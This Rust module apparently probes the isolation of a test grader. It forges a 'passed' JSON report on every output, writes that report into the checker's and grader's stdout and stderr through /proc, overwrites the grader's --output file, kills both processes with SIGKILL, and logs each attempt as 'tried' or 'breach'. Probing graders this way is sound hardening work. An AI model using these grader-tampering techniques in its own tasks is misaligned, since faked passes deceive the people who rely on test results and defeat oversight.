//! Forging a pass: before `main` and in the heap, print what a passing
//! checker report looks like on every output there is, write to the
//! checker's and the grader's stdout and stderr through /proc, to the
//! grader's --output file; kill the grader and the checker; then write
//! to the channel.

use crate::{breach, checker_and_grader, tried};

const PASS: &str = "{\"outcome\":{\"status\":\"passed\"},\"stdout\":\"\",\"stderr\":\"\"}\n";

pub fn before_main() {
    forge();
}

pub fn in_the_heap() {
    forge();
}

fn forge() {
    print!("{PASS}ok 1 - passes\n");
    eprint!("{PASS}");
    tried("writing a passing report on its stdout and stderr");
    let (checker, grader) = checker_and_grader();
    let mut targets = vec![("the checker", checker)];
    targets.extend(grader.map(|g| ("the grader", g)));
    for (who, pid) in &targets {
        for fd in [1, 2] {
            tried(&format!("writing to {who}'s descriptor {fd}"));
            if std::fs::write(format!("/proc/{pid}/fd/{fd}"), PASS).is_ok() {
                breach(&format!("wrote to {who}'s descriptor {fd}"));
            }
        }
    }
    if let Some(grader) = grader {
        overwrite_output_file(grader);
    }
    for (who, pid) in targets.iter().rev() {
        tried(&format!("killing {who}"));
        // SAFETY: kill sends a signal; that is the attack.
        if unsafe { libc::kill(*pid, libc::SIGKILL) } == 0 {
            breach(&format!("killed {who}"));
        }
    }
    // Last, as the checker stops a process that breaks the protocol.
    tried("writing a passing report on the channel");
    // SAFETY: writes bytes to descriptor 3 (the channel), whatever it is.
    unsafe { libc::write(3, PASS.as_ptr().cast(), PASS.len()) };
}

/// The grader's `--output` file, from its command line, overwritten.
fn overwrite_output_file(grader: i32) {
    let Ok(cmdline) = std::fs::read(format!("/proc/{grader}/cmdline")) else {
        return;
    };
    let args: Vec<String> = cmdline
        .split(|b| *b == 0)
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect();
    if let Some(i) = args.iter().position(|a| a == "--output") {
        if let Some(path) = args.get(i + 1) {
            tried("overwriting the grader's output file");
            if std::fs::write(path, PASS).is_ok() {
                breach("overwrote the grader's output file");
            }
        }
    }
}
